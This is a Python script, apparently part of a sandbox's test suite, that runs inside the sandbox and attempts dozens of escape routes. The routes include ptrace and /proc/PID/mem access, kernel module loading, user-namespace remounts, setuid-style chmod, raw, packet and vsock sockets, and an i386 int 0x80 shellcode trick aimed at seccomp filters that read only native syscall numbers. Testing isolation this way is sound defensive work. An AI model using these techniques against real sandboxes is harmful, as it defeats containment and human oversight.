"""Escape attempts that need a system call the shell cannot make, run INSIDE the sandbox.

    .venv/bin/python -I -S attacks.py ACTION ARGS... [ACTION ARGS...]...

Standard library only (it runs with -I -S). Each action prints one line,
`ACTION: DONE ...` when the kernel let it through, `ACTION: refused ERRNO` when
it refused, and the script carries on with the next action: one command tries
every route. The tests judge the host's state; these lines are evidence for a
failure message, never the verdict.
"""

from __future__ import annotations

import ctypes
import ctypes.util
import errno
import fcntl
import mmap
import os
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mount.argtypes = (
    ctypes.c_char_p,
    ctypes.c_char_p,
    ctypes.c_char_p,
    ctypes.c_ulong,
    ctypes.c_void_p,
)

AT_FDCWD = -100
AT_SYMLINK_FOLLOW = 0x400
RENAME_EXCHANGE = 2
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
MS_RDONLY = 1
MS_REMOUNT = 32
MS_BIND = 4096
MS_REC = 16384
MS_PRIVATE = 1 << 18
PTRACE_SEIZE = 0x4206
FS_IOC_SETFLAGS = 0x40086602
FS_NODUMP_FL = 0x40
BLKGETSIZE64 = 0x80081272
RNDADDTOENTCNT = 0x40045201
# x86_64 numbers; other architectures report ENOSYS, which still counts as refused.
NR_INIT_MODULE = 175
NR_FINIT_MODULE = 313
NR_FCHMODAT2 = 452
NR_OPENAT2 = 437
FS_IOC_SETVERSION = 0x40087602
FS_IOC_GETVERSION = 0x80087601
IPC_CREAT = 0o1000
IPC_RMID = 0
IPC_SET = 1
# i386 (int 0x80) numbers: the same call under another ABI's numbering.
I386_CHMOD = 15
MAP_32BIT = 0x40

for _name, _types in {
    "msgget": (ctypes.c_int, ctypes.c_int),
    "semget": (ctypes.c_int, ctypes.c_int, ctypes.c_int),
    "shmget": (ctypes.c_int, ctypes.c_size_t, ctypes.c_int),
    "msgctl": (ctypes.c_int, ctypes.c_int, ctypes.c_void_p),
    "semctl": (ctypes.c_int, ctypes.c_int, ctypes.c_int),
    "shmctl": (ctypes.c_int, ctypes.c_int, ctypes.c_void_p),
    "msgsnd": (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int),
    "shmat": (ctypes.c_int, ctypes.c_void_p, ctypes.c_int),
}.items():
    getattr(libc, _name).argtypes = _types
libc.shmat.restype = ctypes.c_void_p
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
)
# POSIX message queues: in libc since glibc 2.34, in librt before (and in musl's libc).
_mq = (
    libc
    if hasattr(libc, "mq_open")
    else ctypes.CDLL(ctypes.util.find_library("rt"), use_errno=True)
)
_mq.mq_open.argtypes = (ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p)
_mq.mq_unlink.argtypes = (ctypes.c_char_p,)


def _errno_name(number: int) -> str:
    return errno.errorcode.get(number, str(number))


def _check(result: int) -> None:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def write(path: str) -> str:
    with open(path, "w") as handle:
        handle.write("pwned\n")
    return path


def open_write(path: str) -> str:
    """Open for writing and close without writing a byte: safe on sysfs and devices."""
    os.close(os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK))
    return path


def opath_reopen(path: str) -> str:
    """A path-only descriptor (no access checked yet), reopened for writing via /proc."""
    fd = os.open(path, os.O_PATH)
    try:
        return write(f"/proc/self/fd/{fd}")
    finally:
        os.close(fd)


def write_fd(number: str) -> str:
    os.write(int(number), b"pwned\n")
    return number


def create_at(dir_fd: str, name: str) -> str:
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=int(dir_fd)))
    return name


def rename(source: str, target: str) -> str:
    os.rename(source, target)
    return target


def exchange(first: str, second: str) -> str:
    _check(libc.renameat2(AT_FDCWD, first.encode(), AT_FDCWD, second.encode(), RENAME_EXCHANGE))
    return second


def link(source: str, target: str) -> str:
    os.link(source, target)
    return target


def truncate(path: str) -> str:
    os.truncate(path, 0)
    return path


def bind_socket(path: str) -> str:
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(path)
    finally:
        sock.close()
    return path


def connect_send(path: str, text: str) -> str:
    """Ask a service listening on a Unix socket to do something (it acts as itself)."""
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.connect(path)
        sock.sendall(text.encode() + b"\n")
    finally:
        sock.close()
    return path


def mkfifo(path: str) -> str:
    os.mkfifo(path)
    return path


def tmpfile(directory: str, target: str) -> str:
    """An unnamed file in `directory`, then given the name `target` (linkat via /proc)."""
    fd = os.open(directory, os.O_TMPFILE | os.O_WRONLY, 0o600)
    try:
        os.write(fd, b"pwned\n")
        # linkat(AT_SYMLINK_FOLLOW) through the magic link; os.link would call link(2).
        _check(
            libc.linkat(
                AT_FDCWD,
                f"/proc/self/fd/{fd}".encode(),
                AT_FDCWD,
                target.encode(),
                AT_SYMLINK_FOLLOW,
            )
        )
    finally:
        os.close(fd)
    return target


def setxattr(path: str) -> str:
    os.setxattr(path, "user.stockade-attack", b"1", follow_symlinks=False)
    return path


def removexattr(path: str, name: str) -> str:
    os.removexattr(path, name, follow_symlinks=False)
    return path


def chattr(path: str) -> str:
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, FS_IOC_SETFLAGS, struct.pack("l", FS_NODUMP_FL))
    finally:
        os.close(fd)
    return path


def ptrace(pid: str) -> str:
    _check(libc.ptrace(PTRACE_SEIZE, int(pid), None, None))
    return pid


def open_mem(pid: str) -> str:
    os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
    return pid


def load_module() -> str:
    _check(libc.syscall(NR_INIT_MODULE, None, ctypes.c_ulong(0), b""))
    return "init_module"


def load_module_fd() -> str:
    fd = os.open("/dev/null", os.O_RDONLY)
    try:
        _check(libc.syscall(NR_FINIT_MODULE, fd, b"", 0))
    finally:
        os.close(fd)
    return "finit_module"


def block_ioctl(device: str) -> str:
    """A read-only ioctl on a device opened read-only: governed as a device ioctl."""
    fd = os.open(device, os.O_RDONLY | os.O_NONBLOCK)
    try:
        fcntl.ioctl(fd, BLKGETSIZE64, b"\0" * 8)
    finally:
        os.close(fd)
    return device


def credit_entropy(device: str) -> str:
    """RNDADDTOENTCNT with 0 bits: a privileged device ioctl that changes nothing if it passes."""
    fd = os.open(device, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, RNDADDTOENTCNT, struct.pack("i", 0))
    finally:
        os.close(fd)
    return device


def remount_rw(target: str) -> str:
    """Remount the mount holding `target` read-write, in our own mount namespace."""
    _check(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None))
    _check(libc.mount(None, target.encode(), None, MS_REMOUNT | MS_BIND, None))
    return target


def userns_remount_write(path: str) -> str:
    """A new user + mount namespace (full capabilities there), remount rw, write."""
    _check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    try:
        remount_rw("/")
    except OSError as error:
        print(f"userns_remount_write: remount / refused {_errno_name(error.errno)}")
    try:
        remount_rw(os.path.dirname(path))
    except OSError as error:
        print(f"userns_remount_write: remount parent refused {_errno_name(error.errno)}")
    return write(path)


def userns_bind_write(source_dir: str, mountpoint: str, name: str) -> str:
    """A new user + mount namespace, bind `source_dir` on `mountpoint`, write through it."""
    _check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    _check(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None))
    _check(libc.mount(source_dir.encode(), mountpoint.encode(), None, MS_BIND, None))
    return write(os.path.join(mountpoint, name))


def userns_tmpfs_over(directory: str) -> str:
    """A tmpfs over `directory` in a private namespace: must not show on the host."""
    _check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    _check(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None))
    _check(libc.mount(b"none", directory.encode(), b"tmpfs", 0, None))
    return directory


# --- kernel surfaces: IPC objects, setuid bits, inode ioctls, signals, foreign ABIs ---


def mq_create(name: str) -> str:
    fd = _mq.mq_open(name.encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
    _check(fd)
    os.close(fd)
    return name


def mq_unlink(name: str) -> str:
    _check(_mq.mq_unlink(name.encode()))
    return name


def sysv_create(key: str) -> str:
    """A message queue, a semaphore set and a shared memory segment under `key`."""
    number = int(key, 0)
    _check(libc.msgget(number, IPC_CREAT | 0o600))
    _check(libc.semget(number, 1, IPC_CREAT | 0o600))
    _check(libc.shmget(number, 4096, IPC_CREAT | 0o600))
    return key


def sysv_remove(msqid: str, semid: str, shmid: str) -> str:
    _check(libc.msgctl(int(msqid), IPC_RMID, None))
    _check(libc.semctl(int(semid), 0, IPC_RMID))
    _check(libc.shmctl(int(shmid), IPC_RMID, None))
    return f"{msqid} {semid} {shmid}"


def msg_set_mode(msqid: str) -> str:
    """IPC_SET on a message queue: read its msqid_ds, change the mode, write it back."""
    buffer = ctypes.create_string_buffer(512)
    _check(libc.msgctl(int(msqid), 2, buffer))  # IPC_STAT
    # struct ipc_perm (x86_64): key, uid, gid, cuid, cgid, mode (u32 each) ...
    struct.pack_into("I", buffer, 20, 0o666)
    _check(libc.msgctl(int(msqid), IPC_SET, buffer))
    return msqid


def msg_send(msqid: str) -> str:
    message = struct.pack("l", 1) + b"pwned"
    _check(libc.msgsnd(int(msqid), message, 5, 0o4000))  # IPC_NOWAIT
    return msqid


def shm_write(shmid: str) -> str:
    address = libc.shmat(int(shmid), None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        _check(-1)
    ctypes.memmove(address, b"pwned", 5)
    return shmid


def chmod_mode(path: str, mode: str) -> str:
    os.chmod(path, int(mode, 8))
    return path


def fchmodat2(path: str, mode: str) -> str:
    _check(libc.syscall(NR_FCHMODAT2, AT_FDCWD, path.encode(), int(mode, 8), 0))
    return path


def create_mode(path: str, mode: str) -> str:
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_EXCL, int(mode, 8)))
    return path


def tmpfile_mode(directory: str, target: str, mode: str) -> str:
    fd = os.open(directory, os.O_TMPFILE | os.O_WRONLY, int(mode, 8))
    try:
        _check(
            libc.linkat(
                AT_FDCWD,
                f"/proc/self/fd/{fd}".encode(),
                AT_FDCWD,
                target.encode(),
                AT_SYMLINK_FOLLOW,
            )
        )
    finally:
        os.close(fd)
    return target


def openat2_create(path: str, mode: str) -> str:
    how = struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, int(mode, 8), 0)
    fd = libc.syscall(NR_OPENAT2, AT_FDCWD, path.encode(), how, len(how))
    _check(fd)
    os.close(fd)
    return path


def mkdir_mode(path: str, mode: str) -> str:
    os.mkdir(path, int(mode, 8))
    return path


def mknod_mode(path: str, mode: str) -> str:
    os.mknod(path, 0o100000 | int(mode, 8))  # S_IFREG
    return path


def set_version(path: str) -> str:
    """FS_IOC_SETVERSION: a new inode generation (and ctime), needing only ownership."""
    fd = os.open(path, os.O_RDONLY)
    try:
        current = struct.unpack("l", fcntl.ioctl(fd, FS_IOC_GETVERSION, b"\0" * 8))[0]
        fcntl.ioctl(fd, FS_IOC_SETVERSION, struct.pack("l", current + 1))
    finally:
        os.close(fd)
    return path


def kill(pid: str, number: str) -> str:
    os.kill(int(pid), int(number))
    return pid


def abstract_connect(name: str, text: str) -> str:
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.connect(b"\0" + name.encode())
        sock.sendall(text.encode() + b"\n")
    finally:
        sock.close()
    return name


# --- network (network off must hold; judged by what the host's own servers received) ---


def tcp_send(host: str, port: str, text: str) -> str:
    with socket.create_connection((host, int(port)), timeout=5) as sock:
        sock.sendall(text.encode() + b"\n")
    return f"{host}:{port}"


def udp_send(host: str, port: str, text: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(text.encode() + b"\n", (host, int(port)))
    return f"{host}:{port}"


def _checksum(header: bytes) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _loopback_udp(port: int, text: str) -> bytes:
    """An IPv4 + UDP packet from and to 127.0.0.1 (UDP checksum 0: none, as IPv4 allows)."""
    payload = text.encode() + b"\n"
    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    loopback = socket.inet_aton("127.0.0.1")
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, loopback, loopback
    )
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return header + udp


def raw_udp(port: str, text: str) -> str:
    """A raw IP socket (IP_HDRINCL) delivering a hand-made UDP datagram to 127.0.0.1."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(_loopback_udp(int(port), text), ("127.0.0.1", 0))
    return port


def packet_udp(port: str, text: str) -> str:
    """A packet socket on `lo` delivering the same datagram below IP."""
    eth_p_ip = 0x0800
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(eth_p_ip)) as sock:
        sock.sendto(_loopback_udp(int(port), text), ("lo", eth_p_ip))
    return port


def vsock_listen(port: str, seconds: str) -> str:
    """Hold a vsock port (vsock ignores network namespaces: the hypervisor host could
    connect to it) for `seconds`."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.bind((socket.VMADDR_CID_ANY, int(port)))
        sock.listen(1)
        print(f"vsock-listen: holding {port}", flush=True)
        time.sleep(float(seconds))
    return port


def loopback_self(text: str) -> str:
    """A server on this command's own loopback, and a connection to it."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        with socket.create_connection(server.getsockname(), timeout=5) as client:
            client.sendall(text.encode())
            accepted, _ = server.accept()
            with accepted:
                got = accepted.recv(64).decode()
    return got


def unix_self(path: str, text: str) -> str:
    """A server on a named Unix socket of this command's own, and a connection to it."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(path)
        server.listen(1)
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
                client.connect(path)
                client.sendall(text.encode())
                accepted, _ = server.accept()
                with accepted:
                    got = accepted.recv(64).decode()
        finally:
            os.unlink(path)
    return got


def dgram_pair_send(path: str, text: str) -> str:
    """A connected datagram pair can still name another socket in sendmsg()."""
    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with first, second:
        first.sendto(text.encode() + b"\n", path)
    return path


def i386_chmod(path: str, mode: str) -> str:
    """chmod under the i386 ABI (int 0x80 from this 64-bit process): other numbers,
    which a filter reading only native numbers would let through."""
    page = libc.mmap(
        None,
        mmap.PAGESIZE,
        mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC,
        mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
        -1,
        0,
    )
    if page in (None, ctypes.c_void_p(-1).value):
        _check(-1)
    name = os.fsencode(path) + b"\0"
    ctypes.memmove(page + 256, name, len(name))
    # push rbx; mov eax, 15; mov ebx, path; mov ecx, mode; int 0x80; pop rbx; ret
    code = (
        b"\x53\xb8"
        + struct.pack("<I", I386_CHMOD)
        + b"\xbb"
        + struct.pack("<I", page + 256)
        + b"\xb9"
        + struct.pack("<I", int(mode, 8))
        + b"\xcd\x80\x5b\xc3"
    )
    ctypes.memmove(page, code, len(code))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return path


ACTIONS = {
    "write": write,
    "open-write": open_write,
    "write-fd": write_fd,
    "opath-reopen": opath_reopen,
    "create-at": create_at,
    "rename": rename,
    "exchange": exchange,
    "link": link,
    "truncate": truncate,
    "bind-socket": bind_socket,
    "mkfifo": mkfifo,
    "connect-send": connect_send,
    "tmpfile": tmpfile,
    "setxattr": setxattr,
    "removexattr": removexattr,
    "chattr": chattr,
    "ptrace": ptrace,
    "open-mem": open_mem,
    "init-module": load_module,
    "finit-module": load_module_fd,
    "block-ioctl": block_ioctl,
    "credit-entropy": credit_entropy,
    "remount-rw": remount_rw,
    "userns-remount-write": userns_remount_write,
    "userns-bind-write": userns_bind_write,
    "userns-tmpfs-over": userns_tmpfs_over,
    "mq-create": mq_create,
    "mq-unlink": mq_unlink,
    "sysv-create": sysv_create,
    "sysv-remove": sysv_remove,
    "msg-set-mode": msg_set_mode,
    "msg-send": msg_send,
    "shm-write": shm_write,
    "chmod": chmod_mode,
    "fchmodat2": fchmodat2,
    "create-mode": create_mode,
    "tmpfile-mode": tmpfile_mode,
    "openat2-create": openat2_create,
    "mkdir-mode": mkdir_mode,
    "mknod-mode": mknod_mode,
    "set-version": set_version,
    "kill": kill,
    "abstract-connect": abstract_connect,
    "i386-chmod": i386_chmod,
    "tcp-send": tcp_send,
    "udp-send": udp_send,
    "raw-udp": raw_udp,
    "packet-udp": packet_udp,
    "vsock-listen": vsock_listen,
    "loopback-self": loopback_self,
    "unix-self": unix_self,
    "dgram-pair-send": dgram_pair_send,
}


def main(argv: list[str]) -> int:
    """Run `ACTION ARGS...` groups separated by `--`; every group runs, whatever happens."""
    groups: list[list[str]] = [[]]
    for word in argv:
        if word == "--":
            groups.append([])
        else:
            groups[-1].append(word)
    for name, *args in filter(None, groups):
        try:
            detail = ACTIONS[name](*args)
        except OSError as error:
            print(f"{name}: refused {_errno_name(error.errno or 0)}", flush=True)
        else:
            print(f"{name}: DONE {detail}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
